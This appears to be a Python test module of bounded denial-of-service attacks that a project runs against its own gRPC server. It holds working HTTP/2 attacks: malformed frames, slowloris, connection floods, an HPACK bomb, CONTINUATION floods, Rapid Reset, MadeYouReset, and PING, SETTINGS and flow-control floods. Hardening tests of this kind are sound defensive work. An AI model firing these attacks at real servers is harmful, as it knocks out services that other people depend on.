"""What a stranger on the network may do to a gRPC port. Each attack is bounded in count and in time.

Each takes the address and how much of it there shall be, 1 for a test of a second or so, and gives the number of
hostile things that it got out before the server closed the connection or stopped reading. Names and numbers of the
known ones are those under which they were published.
"""

from __future__ import annotations

import random
import struct
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, suppress

from latchgate.v1.verify_service_pb2 import BatchVerifyRequest, VerifyRequest
from tests.attack.hoards import HOARDS
from tests.attack.wire import (
    BATCH_VERIFY,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    LARGEST_WINDOW,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    SETTINGS,
    SETTINGS_INITIAL_WINDOW_SIZE,
    VERIFY,
    Wire,
    call_headers,
    frame,
    many,
    message,
    reset,
    setting,
    window_update,
)

Attack = Callable[[str, int], int]

_HEADERS = call_headers(VERIFY)
_REQUEST = message(VerifyRequest(key="lg_0000000000000000000000.x").SerializeToString())
_CHUNK = 64
"""Hostile things in one send."""


def _streams(count: int) -> Iterator[int]:
    return iter(range(1, 2 * count, 2))


def _until_closed(address: str, chunks: Iterator[bytes], *, read: bool = True, opening: bytes = b"") -> int:
    """Send chunk after chunk until the server has had enough; the number of chunks."""
    sent = 0
    with suppress(OSError), Wire(address) as wire:
        wire.send(opening)
        for chunk in chunks:
            wire.send(chunk)
            sent += 1
            if read:
                wire.drain()
    return sent


# Frames that are none -------------------------------------------------------------------------------------------------

MALFORMED: Mapping[str, bytes] = {
    "a path that is no UTF-8": PREFACE
    + frame(SETTINGS)
    + frame(HEADERS, END_HEADERS | END_STREAM, 1, call_headers("/latchgate.v1.VerifyService/?").replace(b"?", b"\xd8")),
    "HTTP/1.1": b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
    "TLS": bytes.fromhex("16030100c8010000c40303") + bytes(200),
    "a preface cut short": PREFACE[:10],
    "no settings": PREFACE + frame(PING, payload=bytes(8)),
    "a frame of 16 MiB": PREFACE + frame(SETTINGS) + b"\xff\xff\xff" + bytes((DATA, 0, 0, 0, 0, 1)) + bytes(70_000),
    "DATA on no stream": PREFACE + frame(SETTINGS) + frame(DATA, payload=b"x"),
    "DATA on an idle stream": PREFACE + frame(SETTINGS) + frame(DATA, stream=5, payload=b"x"),
    "HEADERS on no stream": PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 0, _HEADERS),
    "HEADERS on an even stream": PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 2, _HEADERS),
    "HEADERS on an old stream": PREFACE
    + frame(SETTINGS)
    + frame(HEADERS, END_HEADERS, 9, _HEADERS)
    + frame(HEADERS, END_HEADERS, 3, _HEADERS),
    "HPACK that is none": PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, b"\xff" * 64),
    "an HPACK table beyond its bound": PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, b"\x3f\xff\xff\x7f"),
    "CONTINUATION of nothing": PREFACE + frame(SETTINGS) + frame(CONTINUATION, END_HEADERS, 1, _HEADERS),
    "another frame amid headers": PREFACE
    + frame(SETTINGS)
    + frame(HEADERS, 0, 1, _HEADERS)
    + frame(PING, 0, 0, bytes(8)),
    "padding longer than its frame": PREFACE
    + frame(SETTINGS)
    + frame(HEADERS, END_HEADERS | 0x8, 1, b"\xff" + _HEADERS),
    "SETTINGS of five bytes": PREFACE + frame(SETTINGS, payload=bytes(5)),
    "SETTINGS on a stream": PREFACE + frame(SETTINGS) + frame(SETTINGS, stream=1),
    "a window beyond 2^31": PREFACE + frame(SETTINGS) + setting(SETTINGS_INITIAL_WINDOW_SIZE, 2**31),
    "windows that add up beyond 2^31": PREFACE + frame(SETTINGS) + window_update(LARGEST_WINDOW) * 2,
    "a window update of nothing": PREFACE + frame(SETTINGS) + window_update(0),
    "PING of seven bytes": PREFACE + frame(SETTINGS) + frame(PING, payload=bytes(7)),
    "RST_STREAM of an idle stream": PREFACE + frame(SETTINGS) + reset(7),
    "PUSH_PROMISE by a client": PREFACE + frame(SETTINGS) + frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4) + _HEADERS),
    "a stream that depends on itself": PREFACE + frame(SETTINGS) + frame(PRIORITY, 0, 1, struct.pack("!IB", 1, 1)),
    "GOAWAY, then calls": PREFACE + frame(SETTINGS) + frame(GOAWAY, payload=bytes(8)) + frame(HEADERS, 5, 1, _HEADERS),
    "frames of no known kind": PREFACE + frame(SETTINGS) + frame(0xEE, 0xFF, 1, bytes(100)) * 100,
}
"""Conversations that break a rule of RFC 9113, by the rule."""


def malformed_frames(address: str, amount: int) -> int:
    """Every rule broken once, and then conversations with bytes changed at random."""
    conversations = list(MALFORMED.values())
    sound = PREFACE + frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, _HEADERS) + frame(DATA, END_STREAM, 1, _REQUEST)
    dice = random.Random(amount)
    for _ in range(100 * amount):
        broken = bytearray(sound)
        for _ in range(dice.randint(1, 8)):
            broken[dice.randrange(len(PREFACE) if dice.random() < 0.9 else 0, len(broken))] = dice.randrange(256)
        conversations.append(bytes(broken[: dice.randint(1, len(broken))]))
    conversations += [PREFACE + dice.randbytes(dice.randint(1, 2_000)) for _ in range(100 * amount)]
    for conversation in conversations:
        with suppress(OSError), Wire(address, preface=False) as wire:
            wire.send(conversation)
            wire.drain()
    return len(conversations)


# Clients that take their time -----------------------------------------------------------------------------------------


def slow_clients(address: str, amount: int) -> int:
    """Connections that say one byte at a time: some of a preface, some of headers, some of a message (slowloris)."""
    whole = frame(SETTINGS) + frame(HEADERS, END_HEADERS, 1, _HEADERS) + frame(DATA, 0, 1, _REQUEST)
    scripts = (PREFACE, PREFACE + whole[:20], PREFACE + whole)
    with many(address, 150 * amount, preface=False) as wires:
        for step in range(0, len(scripts[-1]) - 1, 8):
            for number, wire in enumerate(wires):
                with suppress(OSError):
                    wire.send(scripts[number % 3][:-1][step : step + 8])
        time.sleep(0.2)
        return len(wires)


def connection_flood(address: str, amount: int) -> int:
    """Connections that do nothing."""
    with many(address, 1_000 * amount) as wires:
        time.sleep(0.5)
        return len(wires)


def connection_churn(address: str, amount: int) -> int:
    """Connections that close at once, half of them by a reset."""
    made = 0
    for number in range(500 * amount):
        with suppress(OSError), Wire(address) as wire:
            made += 1
            if number % 2:
                wire.socket.setsockopt(1, 13, struct.pack("ii", 1, 0))  # SOL_SOCKET, SO_LINGER: RST at once
    return made


# Headers --------------------------------------------------------------------------------------------------------------


def header_flood(address: str, amount: int) -> int:
    """Calls whose headers are far too large, as one frame and many frames allow."""
    many_headers = call_headers(VERIFY, *((f"x-{number}", "x" * 200) for number in range(60)))
    return _until_closed(
        address, (frame(HEADERS, END_HEADERS | END_STREAM, s, many_headers) for s in _streams(1_000 * amount))
    )


def hpack_bomb(address: str, amount: int) -> int:
    """Small frames that stand for megabytes: one large header put into the table, then named thousands of times."""
    prefix = bytes.fromhex("40") + b"\x01x" + b"\x7f" + bytes((3_900 - 127 & 0x7F | 0x80, 3_900 - 127 >> 7))
    filling = prefix + b"x" * 3_900
    opening = frame(HEADERS, END_HEADERS | END_STREAM, 1, _HEADERS + filling)
    bomb = _HEADERS + b"\xbe" * 16_000
    chunks = (frame(HEADERS, END_HEADERS | END_STREAM, s + 2, bomb) for s in _streams(200 * amount))
    return _until_closed(address, chunks, opening=opening)


def continuation_flood(address: str, amount: int) -> int:
    """Headers that never end (CVE-2024-27316 and its kin)."""
    opening = frame(HEADERS, END_STREAM, 1, _HEADERS)
    block = b"\x00\x01y\x7e" + b"z" * 126
    one = frame(CONTINUATION, 0, 1, block * 100)
    return _until_closed(address, (one for _ in range(5_000 * amount)), opening=opening)


def empty_continuations(address: str, amount: int) -> int:
    """The same of frames that are empty, which no bound on the size of headers stops."""
    opening = frame(HEADERS, END_STREAM, 1, _HEADERS)
    one = frame(CONTINUATION, 0, 1) * _CHUNK
    return _CHUNK * _until_closed(address, (one for _ in range(1_000 * amount)), opening=opening)


# Frames that cost the server more than the client ---------------------------------------------------------------------


def rapid_reset(address: str, amount: int) -> int:
    """Calls that are cancelled as they are made (CVE-2023-44487)."""
    streams = list(_streams(20_000 * amount))
    pairs = [
        frame(HEADERS, END_HEADERS, s, _HEADERS) + frame(DATA, END_STREAM, s, _REQUEST) + reset(s) for s in streams
    ]
    chunks = (b"".join(pairs[i : i + _CHUNK]) for i in range(0, len(pairs), _CHUNK))
    return _CHUNK * _until_closed(address, chunks)


def resets_provoked(address: str, amount: int) -> int:
    """Calls that the server has to reset, by a window update of nothing (CVE-2025-8671, "MadeYouReset")."""
    pairs = [frame(HEADERS, END_HEADERS, s, _HEADERS) + window_update(0, s) for s in _streams(20_000 * amount)]
    chunks = (b"".join(pairs[i : i + _CHUNK]) for i in range(0, len(pairs), _CHUNK))
    return _CHUNK * _until_closed(address, chunks)


def settings_flood(address: str, amount: int) -> int:
    """Settings that each want an acknowledgement, none of which is read (CVE-2019-9515)."""
    one = setting(SETTINGS_INITIAL_WINDOW_SIZE, 65_535) * _CHUNK
    return _CHUNK * _until_closed(address, (one for _ in range(2_000 * amount)), read=False)


def ping_flood(address: str, amount: int) -> int:
    """Pings that each want an answer, none of which is read (CVE-2019-9512)."""
    one = frame(PING, payload=bytes(8)) * _CHUNK
    return _CHUNK * _until_closed(address, (one for _ in range(2_000 * amount)), read=False)


def empty_data(address: str, amount: int) -> int:
    """A message of frames that hold nothing (CVE-2019-9518)."""
    opening = frame(HEADERS, END_HEADERS, 1, _HEADERS)
    one = frame(DATA, 0, 1) * _CHUNK
    return _CHUNK * _until_closed(address, (one for _ in range(2_000 * amount)), opening=opening)


def priority_flood(address: str, amount: int) -> int:
    """Priorities, of streams that are idle (CVE-2019-9513)."""
    one = b"".join(frame(PRIORITY, 0, s, struct.pack("!IB", 0, s % 256)) for s in _streams(_CHUNK))
    return _CHUNK * _until_closed(address, (one for _ in range(2_000 * amount)))


# Memory ---------------------------------------------------------------------------------------------------------------


def answers_never_read(address: str, amount: int) -> int:
    """Calls under the largest window there is, whose answers nobody takes off the socket (CVE-2019-9517)."""
    opening = setting(SETTINGS_INITIAL_WINDOW_SIZE, LARGEST_WINDOW) + window_update(LARGEST_WINDOW - 65_535)
    return _piled_up(address, 4 * amount, opening)


def answers_never_allowed(address: str, amount: int) -> int:
    """Calls under a window of nothing, so that no answer may be sent."""
    return _piled_up(address, 4 * amount, setting(SETTINGS_INITIAL_WINDOW_SIZE, 0))


def _piled_up(address: str, connections: int, opening: bytes) -> int:
    batch = BatchVerifyRequest(requests=[VerifyRequest(key="x")] * 200).SerializeToString()
    headers, body = call_headers(BATCH_VERIFY), message(batch)
    sent = 0
    with ExitStack() as stack:
        for _ in range(connections):
            with suppress(OSError):
                wire = stack.enter_context(Wire(address, receive_buffer=4_096))
                wire.send(opening)
                for stream in _streams(130):
                    wire.send(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body))
                    sent += 1
        time.sleep(0.5)
    return sent


ATTACKS: Mapping[str, Attack] = {
    attack.__name__: attack
    for attack in (
        malformed_frames,
        slow_clients,
        connection_flood,
        connection_churn,
        header_flood,
        hpack_bomb,
        continuation_flood,
        empty_continuations,
        rapid_reset,
        resets_provoked,
        settings_flood,
        ping_flood,
        empty_data,
        priority_flood,
        answers_never_read,
        answers_never_allowed,
        *HOARDS,
    )
}
